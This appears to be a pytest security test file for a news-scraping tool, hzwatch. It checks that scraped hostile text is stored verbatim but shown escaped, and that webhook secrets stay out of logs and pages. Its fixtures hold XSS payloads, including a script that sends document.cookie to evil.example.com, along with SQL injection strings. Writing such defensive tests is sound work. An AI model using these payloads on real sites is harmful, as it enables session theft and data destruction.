"""Security: hostile scraped text is stored verbatim and shown inert; notification secrets never leak.

Real parts only: a replica article carrying the payloads is crawled by `hzwatch crawl`, Datasette
serves the result over HTTP, `hzwatch alerts test` and `hzwatch run` deliver to a real webhook on
127.0.0.1 through a URL whose credentials live only in an environment variable.
"""

from __future__ import annotations

import json
import re
import secrets
import signal
import sqlite3
import subprocess
from pathlib import Path
from urllib.parse import quote

import pytest
from support_faults import REPO, crawl_argv, datasette, env, hz, init_db, integrity, query, remap_flags, run_hz
from support_servers import WebhookReceiver
from support_wait import wait_until

XSS_TITLE = '<script>alert("hzwatch-xss")</script>住房保障新政\'; DROP TABLE articles; --'
XSS_PARAS = [
    "记者从市住保房管局获悉，截至目前全市已新建配售型保障性住房4200套，保障性住房建设持续提速。",
    '<img src=x onerror=alert("hzwatch-img")>相关负责人表示，将继续推进保障性住房项目建设。',
    "'; DROP TABLE articles; -- 以及 \" OR 1=1 -- 和 Robert'); DROP TABLE matches;--",
    '<script>document.location="http://evil.example.com/?c="+document.cookie</script>下一步，杭州将持续深化改革。',
    "据介绍，今年以来各区县保障性住房项目陆续开工，配套学校、医院等公共服务设施同步规划建设。",
]
RAW_PAYLOADS = [
    '<script>alert("hzwatch-xss")',
    '<img src=x onerror=alert("hzwatch-img")',
    '<script>document.location="http://evil.example.com',
]
ESCAPED_MARK = "&lt;script&gt;"


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    """A replica whose newest 时政 article carries <script>, event handlers and SQL-looking text."""
    from replica import server as replica_server

    srv = replica_server.start(articles=0, seed=0)
    made = srv.site.publish(1, "hznews/xinzheng")
    article = made[0]
    article.title = XSS_TITLE
    article.body = list(XSS_PARAS)
    url = f"https://{article.host}{article.path}"
    db = tmp_path_factory.mktemp("sec") / "hzwatch.db"
    init_db(db)
    run_hz(*crawl_argv(srv, db, "hznews")[3:], timeout=300)
    yield srv, db, url
    srv.stop()


def _stored(db: Path, url: str) -> dict:
    rows = query(db, "SELECT id, title, body FROM articles WHERE url = ?", [url])
    assert rows, f"the hostile article {url} was not stored"
    return {"id": rows[0][0], "title": rows[0][1], "body": rows[0][2]}


def test_hostile_text_stored_verbatim(hostile_site):
    srv, db, url = hostile_site
    art = _stored(db, url)
    assert XSS_TITLE in art["title"], f"title not stored verbatim: {art['title']!r}"
    for para in XSS_PARAS:
        assert para in art["body"], f"body lost or altered {para[:30]!r}: {art['body'][:300]!r}"
    # The SQL-looking text did nothing: every table is still there, with its rows.
    assert integrity(db) == "ok"
    tables = {r[0] for r in query(db, "SELECT name FROM sqlite_master WHERE type = 'table'")}
    assert {"articles", "matches", "runs", "items"} <= tables
    assert query(db, "SELECT COUNT(*) FROM articles")[0][0] > 10


def test_hostile_text_shown_inert_in_datasette(hostile_site):
    srv, db, url = hostile_site
    art = _stored(db, url)
    items = [r[0] for r in query(db, "SELECT item_id FROM matches WHERE article_id = ?", [art["id"]])]
    pages = {
        "article page": f"/article/{art['id']}",
        "row page": f"/{db.stem}/articles/{art['id']}",
        "table page": f"/{db.stem}/articles?_sort_desc=id",
        "search": "/search?q=" + quote("住房保障新政"),
        "home": "/",
    }
    if items:
        pages["item page"] = f"/item/{quote(items[0])}"
    must_show = {"article page", "row page", "table page", "search"}
    with datasette(db) as ds:
        for name, path in pages.items():
            status, body = ds.get(path)
            assert status == 200, f"{name} {path}: HTTP {status}"
            for raw in RAW_PAYLOADS:
                assert raw not in body, f"{name} {path} contains live markup {raw!r}"
            if name in must_show:
                assert ESCAPED_MARK in body, f"{name} {path} does not show the scraped <script> text escaped"
        # JSON gives the stored text back verbatim (escaping is the renderer's job, not storage's).
        status, body = ds.get(f"/{db.stem}/articles/{art['id']}.json?_shape=objects")
        assert status == 200
        assert json.loads(body)["rows"][0]["title"] == art["title"]
        # SQL-looking search input is just text: no error page, nothing dropped.
        before = query(db, "SELECT COUNT(*) FROM articles")[0][0]
        for q in ["'; DROP TABLE articles; --", '" OR 1=1 --', "住房') OR ('1'='1", "*", '"', "NEAR(", "住 AND"]:
            for path in ["/search?q=" + quote(q), f"/{db.stem}/articles?_search=" + quote(q)]:
                status, body = ds.get(path)
                assert status < 500, f"{path}: HTTP {status}: {body[:300]}"
        assert query(db, "SELECT COUNT(*) FROM articles")[0][0] == before


# ---- notification secrets --------------------------------------------------------------------------------

ENV_NAME = "HZWATCH_URL_SECURITY_TEST"


@pytest.fixture()
def secret_hook(tmp_path):
    """A webhook receiver, an Apprise URL to it carrying a password and a token, and a subscriptions file."""
    hook = WebhookReceiver()
    password = "pw" + secrets.token_hex(8)
    token = "tok" + secrets.token_hex(12)
    url = f"json://hzbot:{password}@127.0.0.1:{hook.port}/hook/{token}"
    subs = tmp_path / "subscriptions.yaml"
    subs.write_text(
        f"subscriptions:\n  - name: secret-hook\n    urls_env: [{ENV_NAME}]\n    mode: immediate\n    backfill: true\n",
        encoding="utf-8",
    )
    yield hook, url, (password, token), subs
    hook.stop()


def _leaks(text: str | bytes, secret_parts) -> list[str]:
    if isinstance(text, bytes):
        return [s for s in secret_parts if s.encode() in text]
    return [s for s in secret_parts if s in text]


def test_alerts_test_never_prints_the_secret(secret_hook):
    hook, url, parts, subs = secret_hook
    ok = run_hz("alerts", "test", "secret-hook", "--subscriptions", str(subs), extra_env={ENV_NAME: url})
    assert len(hook.received) == 1, "the test message did not arrive"
    assert hook.received[0]["path"].endswith(parts[1]), "the message went somewhere else"
    assert not _leaks(ok.stdout + ok.stderr, parts), ok.stdout + ok.stderr
    # A failing endpoint: the error message must not quote the URL either.
    hook.down()
    failed = run_hz(
        "alerts", "test", "secret-hook", "--subscriptions", str(subs), extra_env={ENV_NAME: url}, check=False
    )
    assert failed.returncode != 0
    assert ENV_NAME in failed.stdout + failed.stderr, "the failure does not name the env var"
    assert not _leaks(failed.stdout + failed.stderr, parts), failed.stdout + failed.stderr


def test_service_keeps_secrets_out_of_db_logs_and_datasette(secret_hook, tmp_path):
    from replica import server as replica_server

    hook, url, parts, subs = secret_hook
    hook.down()  # the first deliveries fail, so errors are logged and stored
    srv = replica_server.start(articles=0, seed=0)
    db = tmp_path / "hzwatch.db"
    logs = tmp_path / "tmp"
    logs.mkdir()
    argv = hz(
        "run",
        "--db",
        str(db),
        "--subscriptions",
        str(subs),
        "--no-serve",
        "--fast",
        *remap_flags(srv),
        "--sources",
        "hznews",
        "--every",
        "86400",
        "--dispatch-every",
        "1",
    )
    err_path = tmp_path / "run.stderr"
    with open(err_path, "wb") as err:
        proc = subprocess.Popen(
            argv, cwd=REPO, env=env(**{ENV_NAME: url, "TMPDIR": str(logs)}), stdout=err, stderr=subprocess.STDOUT
        )
    try:
        try:
            wait_until(
                lambda: query(db, "SELECT COUNT(*) FROM outbox WHERE attempts > 0 AND last_error IS NOT NULL")[0][0],
                120,
                "a failed delivery attempt recorded while the endpoint is down",
                step=0.5,
                ignore=(sqlite3.Error,),  # the service is still creating the database
            )
        except AssertionError as exc:
            raise AssertionError(f"{exc}; service log:\n{err_path.read_text(errors='replace')[-2000:]}") from None
        hook.up()
        wait_until(
            lambda: query(db, "SELECT COUNT(*) FROM outbox WHERE status = 'sent'")[0][0],
            120,
            "an alert delivered once the endpoint came back",
            step=0.5,
        )
    finally:
        proc.send_signal(signal.SIGTERM)
        try:
            proc.wait(timeout=60)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()
        srv.stop()
    assert hook.received, "the webhook received nothing"

    log_text = err_path.read_text(encoding="utf-8", errors="replace")
    assert not _leaks(log_text, parts), "secret in the service log: " + _context(log_text, parts)
    # The database file (with WAL and shm) and every log file the service wrote.
    leaked_files = [str(p) for p in tmp_path.rglob("*") if p.is_file() and p != subs and _leaks(p.read_bytes(), parts)]
    assert not leaked_files, f"secret found in {leaked_files}"

    with datasette(db) as ds:
        paths = [
            "/",
            f"/{db.stem}",
            f"/{db.stem}/outbox",
            f"/{db.stem}/outbox.json?_shape=array",
            f"/{db.stem}/subscriptions.json?_shape=array",
            f"/{db.stem}/runs.json?_shape=array",
        ]
        metadata = json.loads(ds.get("/-/metadata.json")[1] or "{}")
        queries = metadata.get("databases", {}).get(db.stem, {}).get("queries") or {}
        paths += [f"/{db.stem}/{name}" for name in queries if re.search("alert|outbox|notif", name, re.I)]
        for path in paths:
            status, body = ds.get(path)
            assert status < 500, f"{path}: HTTP {status}"
            assert not _leaks(body, parts), f"secret shown by Datasette at {path}"


def _context(text: str, parts) -> str:
    for s in parts:
        i = text.find(s)
        if i >= 0:
            return text[max(0, i - 200) : i + 50]
    return ""
